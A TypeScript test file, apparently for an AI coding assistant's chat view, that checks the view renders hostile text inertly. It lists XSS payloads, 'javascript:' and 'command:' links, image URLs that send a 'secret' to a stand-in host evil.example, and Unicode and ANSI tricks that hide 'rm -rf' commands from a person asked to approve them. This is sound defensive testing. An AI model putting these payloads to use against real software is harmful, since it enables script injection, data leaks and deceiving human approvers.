// What models, tools, servers and repositories write, in every place of a conversation where it is shown, drawn by the real
// components.
import assert from "node:assert/strict";
import { test } from "node:test";
import { signal } from "@preact/signals";
import { firstHidden } from "../../src/core/hiddenText.ts";
import type { CondenseStep, Step, ToolStep, TranscriptItem, TurnItem } from "../../src/core/transcript.ts";
import { createArrangement } from "../../webview/chat/arrangement.ts";
import { ChatContext } from "../../webview/chat/context.ts";
import { TranscriptRow } from "../../webview/chat/TranscriptRow.tsx";
import { MarkdownContext } from "../../webview/shared/markdown/context.ts";
import { drawFormula } from "../../webview/shared/markdown/drawFormula.ts";
import { createHighlight } from "../../webview/shared/markdown/highlight.ts";
import { createLog, createWorld, ref } from "./support/chatHost.ts";
import { drawOn, type PageNode } from "./support/page.ts";

const figures = {
  answeredBy: null,
  usage: {},
  cost: { kind: "unknown", why: "test" },
  timing: { firstPartMs: 1, totalMs: 2 },
} as const;

/** A tool's call with this text wherever something comes from outside. */
function toolSteps(text: string): ToolStep[] {
  const common = {
    type: "tool",
    seq: 2,
    at: 0,
    callId: "c",
    name: text,
    input: { [text]: [text] },
    preview: text,
  } as const;
  const command = { kind: "command", command: text, cwd: text, shell: text, sandbox: text } as const;
  const edits = { kind: "edits", files: [{ path: text, change: "change", added: 1, removed: 1 }] } as const;
  const asking = { type: "asking", reasons: [text], offer: [text], workspace: "w" } as const;
  const decision = { verdict: "deny", by: "policy", reason: text } as const;
  const states: [ToolStep["plan"], ToolStep["state"]][] = [
    [command, asking],
    [edits, asking],
    [null, asking],
    [command, { type: "running" }],
    [null, { type: "waiting" }],
    [command, { type: "denied", decision }],
    [edits, { type: "finished", text, isError: false, durationMs: 1 }],
    [command, { type: "finished", text, isError: true, durationMs: 1 }],
  ];
  return states.map(([plan, state], index) => ({ ...common, span: `tool ${index}`, plan, state }));
}

function modelSteps(text: string): Step[] {
  const model = { ...ref, model: text };
  const content = [
    { type: "text", text },
    { type: "thinking", text },
    { type: "call", callId: "none", name: text, input: {} },
  ] as const;
  const error = { code: "overloaded", message: text, advice: text } as const;
  const finish = { reason: "stop", vendor: text } as const;
  const common = { type: "model", seq: 2, at: 0, model } as const;
  return [
    {
      ...common,
      span: "m 1",
      content: [...content],
      state: { type: "done", figures: { ...figures, answeredBy: text }, finish },
    },
    { ...common, span: "m 2", content: [], state: { type: "streaming" } },
    { ...common, span: "m 3", content: [...content], state: { type: "failed", figures, error, retryInMs: 1_000 } },
  ];
}

function condensations(text: string): CondenseStep[] {
  const error = { code: "overloaded", message: text, advice: text } as const;
  const model = { ...ref, model: text };
  const states: CondenseStep["state"][] = [
    { type: "working" },
    { type: "failed", error, durationMs: 1 },
    { type: "done", summary: text, model, tokensAfter: 1, durationMs: 1 },
  ];
  return states.map((state, index) => ({
    ...{ type: "condense", span: `c ${index}`, seq: 2, at: 0, by: "person", tokensBefore: 9, messages: 2, calls: [] },
    state,
  }));
}

function items(text: string): TranscriptItem[] {
  const error = { code: "overloaded", message: text, advice: text } as const;
  const turn = { type: "turn", id: "t", seq: 2, after: 1, at: 0, agentName: text } as const;
  const ends = ["done", "cancelled", "failed", "limit", "interrupted"] as const;
  const attachment = {
    type: "attachment",
    name: text,
    path: text,
    language: text,
    fromLine: 1,
    toLine: 2,
    text,
  } as const;
  return [
    { type: "user", id: "u", seq: 1, at: 0, content: [{ type: "text", text }, attachment] },
    { ...turn, steps: [...modelSteps(text), ...toolSteps(text), ...condensations(text)], state: { type: "working" } },
    ...ends.map((reason): TurnItem => ({ ...turn, steps: [], state: { type: "ended", reason, error, durationMs: 1 } })),
  ];
}

/** Draws items as the chat does, with everything unfolded. */
function drawn(list: readonly TranscriptItem[], look: (page: PageNode) => void): void {
  const world = createWorld(createLog("s"));
  const arrangement = createArrangement(signal([]), signal("s"));
  for (const item of list)
    for (const step of item.type === "turn" ? item.steps : [])
      for (const id of [step.span, `${step.span} 1`]) arrangement.fold(id, true);
  const unexpected = () => assert.fail("Something happened without a click.");
  const formulas = { loaded: drawFormula, load: unexpected };
  const colours = { loaded: createHighlight(), load: unexpected };
  const markdown = {
    openLink: unexpected,
    copy: unexpected,
    insert: unexpected,
    colours,
    formulas,
    near: () => () => {},
  };
  const page = { model: world.model, arrangement, place: "sidebar" } as const;
  drawOn(
    <ChatContext.Provider value={page}>
      <MarkdownContext.Provider value={markdown}>
        {list.map((item, index) => (
          <TranscriptRow key={index} item={item} ways={undefined} last={false} drawn={true} />
        ))}
      </MarkdownContext.Provider>
    </ChatContext.Provider>,
    look,
  );
  world.dispose();
}

const elements = new Set(
  [
    "body article section div p span h2 h3 time ul ol li pre code strong em del br hr blockquote table thead tbody tr th td",
  ]
    .concat("details summary button")
    .flatMap((names) => names.split(" ")),
);
const attributes =
  /^(class|title|dir|role|tabIndex|type|disabled|open|start|scope|dateTime|aria-(label|expanded|hidden|busy)|data-(url|item|step))$/;

/** Only what is on the lists; and only http, https and mail can be followed, by a click. */
function harmless(page: PageNode, text: string): void {
  for (const node of page.all()) {
    if (node.localName === null) continue;
    assert.ok(elements.has(node.localName), `an element <${node.localName}> out of ${text}`);
    for (const [name, value] of node.attributes) {
      assert.match(name, attributes, `an attribute of ${text}`);
      if (name === "data-url") assert.match(value, /^(https?|mailto):/, text);
    }
    for (const value of Object.values(node.style)) assert.match(value, /^auto \d+(\.\d+)?px$/);
  }
}

const markup = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<svg onload=alert(1)><use href=data:image/svg+xml,x /></svg>",
  "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<a href=javascript:alert(1)>x</a>",
  "</pre></code></details><script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<link rel=stylesheet href=https://evil.example>",
  "<base href=https://evil.example>",
  "<form action=https://evil.example><button>Allow once</button></form>",
  "<vscode-button onclick=alert(1)>x</vscode-button>",
  "<template shadowrootmode=open><script>alert(1)</script></template>",
];

test("attack 29: markup in any place of a conversation is text", (context) => {
  let places = 0;
  for (const text of markup)
    drawn(items(text), (page) => {
      harmless(page, text);
      places += page.text.split(text.slice(0, 12)).length - 1;
    });
  assert.ok(places > markup.length * 20, `it is shown in ${places} places`);
  context.diagnostic(`${places} attacks`);
});

test("attack 30: a link that would run a command is none, in any place", (context) => {
  const links = [
    ...[
      "command:workbench.action.terminal.new",
      "vscode:extension/evil.evil",
      "vscode-insiders://evil",
      "file:///etc/passwd",
    ],
    ...[
      "javascript:alert(1)",
      "data:text/html,<script>alert(1)</script>",
      "vbscript:x",
      "command:aiStudio.answerCall?%5B%5D",
    ],
  ].flatMap((target) => [
    `[Allow](${target})`,
    `<${target}>`,
    `[x][r]\n\n[r]: <${target}>`,
    target,
    `\`[x](${target})\``,
  ]);
  for (const text of links)
    drawn(items(text), (page) => {
      harmless(page, text);
      for (const node of page.all())
        assert.equal(node.attributes.has("href") || node.attributes.has("data-url"), false, text);
    });
  context.diagnostic(`${links.length} attacks`);
});

test("attacks 31, 32: no image, diagram or hostile formula is loaded or laid out, in any place", (context) => {
  const texts = [
    "![x](https://evil.example/?d=secret)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x][r]\n\n[r]: https://evil.example/?d=secret",
    "![](data:image/svg+xml,<svg/onload=alert(1)>)",
    "```mermaid\ngraph TD; A[<img src=https://evil.example/x>]-->B; click A javascript:alert(1)\n```",
    "```svg\n<svg><image href=https://evil.example/x /></svg>\n```",
    "```html\n<img src=https://evil.example/x>\n```",
    "$$\\href{javascript:alert(1)}{x}$$ and $\\includegraphics{https://evil.example/x}$",
    "```math\n\\url{https://evil.example}\n```",
    "<div>\n\n![x](https://evil.example/x)\n\n</div>",
    "<details><summary>x</summary>\n\n<img src=https://evil.example/x>\n\n</details>",
  ];
  for (const text of texts)
    drawn(items(text), (page) => {
      harmless(page, text);
      for (const node of page.all())
        for (const name of ["src", "srcset", "href", "background", "poster", "data"])
          assert.equal(node.attributes.has(name), false, `${name} of ${text}`);
    });
  context.diagnostic(`${texts.length} attacks`);
});

test("attack 36: nothing hides or reorders what a person is asked to allow", (context) => {
  const hiding = [
    ...[
      "rm -rf /\u202etxt.x",
      "ls \u2066x\u2069",
      "a\u200bb",
      "a\u200db",
      "a\ufeffb",
      "ls\u00adx",
      "ls \u{e0041}\u{e0042}x",
    ],
    ...[
      "\u001b[2K\u001b[1Aecho safe",
      "\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007",
      "rm x\recho safe",
      "rm x\u0008\u0008ls",
    ],
    ...[
      "ls\u2028rm x",
      "ls\u2029rm x",
      "ls\u0085rm x",
      "ls\u000brm x",
      "ls\u000crm x",
      "a\u115fb",
      "a\u3164b",
      "a\u061cb",
    ],
    ...["ls\u0000rm x", "ls\u007fx", "ls\u009b2Jx", "a\ufff9b\ufffac\ufffb", "a\u180eb", "a\u2060b", "a\u00a0b"],
  ];
  for (const text of hiding)
    drawn([turnOf(toolSteps(text).filter(({ state }) => state.type === "asking"))], (page) => {
      for (const node of page.all())
        for (const value of [node.data, ...node.attributes.values()]) {
          const found = firstHidden(value.replace(/[\n\t]/g, ""));
          assert.equal(found, null, `${JSON.stringify(text)} in ${JSON.stringify(value)}`);
        }
    });
  context.diagnostic(`${hiding.length} attacks`);
});

test("attack 36: a command is shown to its end, however it is filled up", () => {
  for (const filler of [" ".repeat(15_000), "\n".repeat(5_000), "\t".repeat(5_000), "a".repeat(19_000)]) {
    const command = `echo safe${filler}; rm -rf x`;
    drawn([turnOf(toolSteps(command).slice(0, 1))], (page) => {
      const shown = [...page.all()].find((node) => node.attributes.get("aria-label") === "Command");
      assert.ok(shown?.text === command, JSON.stringify(shown?.text.slice(-50)));
    });
  }
});

const turnOf = (steps: readonly Step[]): TurnItem => ({
  ...{ type: "turn", id: "t", seq: 2, after: 1, at: 0, agentName: "A" },
  steps,
  state: { type: "working" },
});
